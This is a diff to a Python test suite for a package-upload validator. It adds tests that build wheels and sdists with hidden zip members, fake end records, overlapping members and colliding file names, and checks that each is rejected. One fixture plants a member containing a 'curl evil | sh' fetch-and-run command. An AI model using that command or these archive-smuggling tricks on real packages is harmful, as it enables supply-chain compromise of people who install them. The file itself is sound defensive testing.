@@ -3,6 +3,8 @@ import io
 import os
 import random
 import struct
+import subprocess
+import sys
 import tarfile
 import warnings
 import zipfile
@@ -19,6 +21,7 @@ from cheeseshop.packaging.archives import (
 from cheeseshop.packaging.errors import UploadRejected
 from tests.packaging.dists import (
     core_metadata,
+    drop_from_central_directory,
     make_sdist,
     make_wheel,
     tar_member,
@@ -105,8 +108,20 @@ def sdist_with(tmp_path, *members, filename=SDIST_NAME):
 
 
 # Header patching for zip files, to build archives whose headers lie.
-_LOCAL_FIELDS = {"flags": (6, "<H"), "method": (8, "<H"), "crc": (14, "<L"), "size": (22, "<L")}
-_CENTRAL_FIELDS = {"flags": (8, "<H"), "method": (10, "<H"), "crc": (16, "<L"), "size": (24, "<L")}
+_LOCAL_FIELDS = {
+    "flags": (6, "<H"),
+    "method": (8, "<H"),
+    "crc": (14, "<L"),
+    "compressed": (18, "<L"),
+    "size": (22, "<L"),
+}
+_CENTRAL_FIELDS = {
+    "flags": (8, "<H"),
+    "method": (10, "<H"),
+    "crc": (16, "<L"),
+    "compressed": (20, "<L"),
+    "size": (24, "<L"),
+}
 
 
 def patch_zip_member(path, name: str, *, local: dict | None = None, central: dict | None = None):
@@ -357,6 +372,256 @@ def test_symlink_member_in_zip_is_refused(tmp_path):
     assert rejection(inspect_wheel, path) == (
         f"{INVALID}Member 'example/link' is a symbolic link; zip distributions may not contain "
         "links."
+    )
+
+
+# Zip framing: zipfile and pip read the central directory, other tools the local headers in
+# order. Both must see the same members, so every byte belongs to a listed member.
+
+
+def wheel_hiding(tmp_path, position: int):
+    """A wheel whose member `example/hidden.py`, written at `position`, is in no directory."""
+    infos = list(wheel_members().items())
+    infos.insert(position, ("example/hidden.py", b"import os; os.system('curl evil | sh')\n"))
+    path = drop_from_central_directory(
+        write_wheel_infos(tmp_path / WHEEL_NAME, infos), "example/hidden.py"
+    )
+    with zipfile.ZipFile(path) as archive:
+        assert "example/hidden.py" not in archive.namelist()  # what zipfile and pip see
+    assert b"example/hidden.py" in path.read_bytes()  # what a local-header reader sees
+    return path
+
+
+def wheel_with_a_prepended_entry(tmp_path):
+    hidden = write_zip(tmp_path / "hidden.zip", {"example/hidden.py": b"evil"}).read_bytes()
+    path = make_wheel(tmp_path)
+    path.write_bytes(hidden[: hidden.index(b"PK\x01\x02")] + path.read_bytes())
+    return path
+
+
+def wheel_with_comment(tmp_path, comment: bytes):
+    path = make_wheel(tmp_path)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.comment = comment
+    return path
+
+
+def wheel_with_bytes_appended(tmp_path, suffix: bytes):
+    path = make_wheel(tmp_path)
+    path.write_bytes(path.read_bytes() + suffix)
+    return path
+
+
+def wheel_with_overlapping_members(tmp_path):
+    """`example/a.py`'s data stretched over the next member, as overlap zip bombs do."""
+    path = write_zip_stored(tmp_path / WHEEL_NAME, wheel_members())
+    with zipfile.ZipFile(path) as archive:
+        first, second = archive.infolist()[:2]
+    data = path.read_bytes()
+    start = first.header_offset + 30 + len(first.filename)
+    end = second.header_offset + 30 + len(second.filename) + second.compress_size
+    span = end - start
+    crc = zlib.crc32(data[start:end])
+    values = {"compressed": span, "size": span, "crc": crc}
+    return patch_zip_member(path, first.filename, local=values, central=values)
+
+
+def write_zip_stored(path, members: dict[str, bytes]):
+    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
+        for member, data in members.items():
+            archive.writestr(member, data)
+    return path
+
+
+HIDDEN_DATA_ATTACKS = {
+    "an entry before the first member": (
+        lambda tmp_path: wheel_hiding(tmp_path, 0),
+        "Bytes 0 to ",
+    ),
+    "an entry between two members": (
+        lambda tmp_path: wheel_hiding(tmp_path, 2),
+        "of the zip file belong to no member listed in its central directory.",
+    ),
+    "an entry after the last member": (
+        lambda tmp_path: wheel_hiding(tmp_path, 4),
+        "of the zip file belong to no member listed in its central directory.",
+    ),
+    "an entry prepended to the archive": (
+        wheel_with_a_prepended_entry,
+        "The end record places the central directory at bytes",
+    ),
+    "a comment": (
+        lambda tmp_path: wheel_with_comment(tmp_path, b"nothing to see"),
+        "The zip file has a comment; distributions may not have one.",
+    ),
+    "a fake end record in the comment": (
+        # zipfile takes the fake record for the real one, and sees an empty archive.
+        lambda tmp_path: wheel_with_comment(tmp_path, b"PK\x05\x06" + bytes(18)),
+        "The end record places the central directory at bytes 0 to 0",
+    ),
+    "data after the end record": (
+        lambda tmp_path: wheel_with_bytes_appended(tmp_path, b"hidden"),
+        "The zip file has 6 bytes after its end record.",
+    ),
+    "a second archive appended": (
+        lambda tmp_path: wheel_with_bytes_appended(
+            tmp_path, write_zip(tmp_path / "second.zip", {"example/evil.py": b"x"}).read_bytes()
+        ),
+        "The end record places the central directory at bytes",
+    ),
+    "overlapping members": (
+        wheel_with_overlapping_members,
+        "Member 'example-1.0.dist-info/METADATA' overlaps another member.",
+    ),
+}
+
+
+@pytest.mark.parametrize(
+    ("build", "message"), HIDDEN_DATA_ATTACKS.values(), ids=list(HIDDEN_DATA_ATTACKS)
+)
+def test_a_wheel_with_data_outside_its_listed_members_is_refused(tmp_path, build, message):
+    assert message in rejection(inspect_wheel, build(tmp_path))
+
+
+class _Unseekable(io.RawIOBase):
+    """A write-only stream: zipfile then writes each member with a data descriptor."""
+
+    def __init__(self, path):
+        self.file = open(path, "wb")  # noqa: SIM115 - closed by close()
+
+    def writable(self):
+        return True
+
+    def write(self, data):
+        return self.file.write(data)
+
+    def close(self):
+        self.file.close()
+        super().close()
+
+
+def write_streamed_wheel(path):
+    stream = _Unseekable(path)
+    with zipfile.ZipFile(stream, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for member, data in wheel_members().items():
+            archive.writestr(member, data)
+    stream.close()
+    return path
+
+
+def test_a_wheel_written_as_a_stream_with_data_descriptors_is_accepted(tmp_path):
+    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
+    with zipfile.ZipFile(path) as archive:
+        assert all(info.flag_bits & 0x8 for info in archive.infolist())
+    assert inspect_wheel(path).root == DIST_INFO
+
+
+def test_a_data_descriptor_that_disagrees_with_the_central_directory_is_refused(tmp_path):
+    path = write_streamed_wheel(tmp_path / WHEEL_NAME)
+    data = bytearray(path.read_bytes())
+    descriptor = data.index(b"PK\x07\x08")
+    data[descriptor + 4] ^= 0xFF  # the CRC
+    path.write_bytes(bytes(data))
+    assert rejection(inspect_wheel, path) == (
+        f"{INVALID}The data descriptor of member 'example/__init__.py' does not match the "
+        "central directory."
+    )
+
+
+def test_a_wheel_built_by_setuptools_is_accepted(tmp_path):
+    project = tmp_path / "project"
+    (project / "src" / "example").mkdir(parents=True)
+    (project / "src" / "example" / "__init__.py").write_text("")
+    (project / "pyproject.toml").write_text(
+        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
+        '[project]\nname = "example"\nversion = "1.0"\n'
+    )
+    subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "build",
+            "--no-isolation",
+            "--outdir",
+            str(tmp_path / "dist"),
+            str(project),
+        ],
+        check=True,
+        capture_output=True,
+    )
+    assert inspect_wheel(tmp_path / "dist" / WHEEL_NAME).root == DIST_INFO
+    assert inspect_sdist(tmp_path / "dist" / SDIST_NAME).root == TOP
+
+
+# Names that collide where the wheel is unpacked: zipfile keeps both, a case-insensitive or
+# normalizing file system (macOS, Windows) one, and which one depends on the tool.
+NAME_COLLISIONS = {
+    "names differing by case": (
+        {"example/Mod.py": b"good", "example/mod.py": b"evil"},
+        "Members 'example/Mod.py' and 'example/mod.py' differ only by case or Unicode "
+        "normalization; some file systems unpack them to one path.",
+    ),
+    "directories differing by case": (
+        {"Example/evil.py": b"evil"},
+        "Members 'example' and 'Example' differ only by case or Unicode normalization; some "
+        "file systems unpack them to one path.",
+    ),
+    "names differing by NFC and NFD": (
+        {"example/caf\u00e9.py": b"good", "example/cafe\u0301.py": b"evil"},
+        "Members 'example/caf\u00e9.py' and 'example/cafe\u0301.py' differ only by case or "
+        "Unicode normalization; some file systems unpack them to one path.",
+    ),
+    "names differing by NFKC": (
+        {"example/\ufb01le.py": b"good", "example/file.py": b"evil"},
+        "Members 'example/\ufb01le.py' and 'example/file.py' differ only by case or Unicode "
+        "normalization; some file systems unpack them to one path.",
+    ),
+    "a file and a directory of the same name": (
+        {"example/x": b"file", "example/x/y.py": b"evil"},
+        "Member 'example/x' is a file, and 'example/x/y.py' uses the same path as a directory.",
+    ),
+    "a directory entry and a file of the same name": (
+        {"example/x/": b"", "example/x": b"file"},
+        "Member 'example/x' is a file, and 'example/x/' uses the same path as a directory.",
+    ),
+    "a dist-info directory differing by case": (
+        {f"{DIST_INFO.upper()}/METADATA": b"Name: evil\n"},
+        f"Members '{DIST_INFO}' and '{DIST_INFO.upper()}' differ only by case",
+    ),
+}
+
+
+@pytest.mark.parametrize(("extra", "message"), NAME_COLLISIONS.values(), ids=list(NAME_COLLISIONS))
+def test_a_wheel_whose_names_collide_when_unpacked_is_refused(tmp_path, extra, message):
+    path = write_zip(tmp_path / WHEEL_NAME, wheel_members() | extra)
+    assert (INVALID + message) in rejection(inspect_wheel, path)
+
+
+def test_a_zip_sdist_whose_names_collide_is_refused(tmp_path):
+    path = write_zip(
+        tmp_path / "example-1.0.zip",
+        {
+            f"{TOP}/PKG-INFO": core_metadata("example", "1.0"),
+            f"{TOP}/A.py": b"",
+            f"{TOP}/a.py": b"",
+        },
+    )
+    assert "differ only by case" in rejection(inspect_sdist, path)
+
+
+def test_an_sdist_whose_names_collide_is_refused(tmp_path):
+    path = sdist_with(tmp_path, tar_member(f"{TOP}/A.py"), tar_member(f"{TOP}/a.py"))
+    assert "differ only by case" in rejection(inspect_sdist, path)
+
+
+def test_a_wheel_with_a_second_dist_info_directory_is_refused(tmp_path):
+    path = write_zip(
+        tmp_path / WHEEL_NAME,
+        wheel_members() | {"other-2.0.dist-info/METADATA": core_metadata("other", "2.0")},
+    )
+    assert rejection(inspect_wheel, path) == (
+        f"Wheel '{WHEEL_NAME}' has more than one .dist-info directory: '{DIST_INFO}', "
+        "'other-2.0.dist-info'."
     )
 
 
@@ -810,4 +1075,4 @@ def test_zip64_member_count_is_read_from_the_zip64_end_record(tmp_path, monkeypa
     end = data.rindex(b"PK\x05\x06")
     struct.pack_into("<2H", data, end + 8, 0xFFFF, 0xFFFF)
     path.write_bytes(bytes(data))
-    assert archives._zip_declared_member_count(path) == 5
+    assert archives._zip_end_records(path).member_count == 5
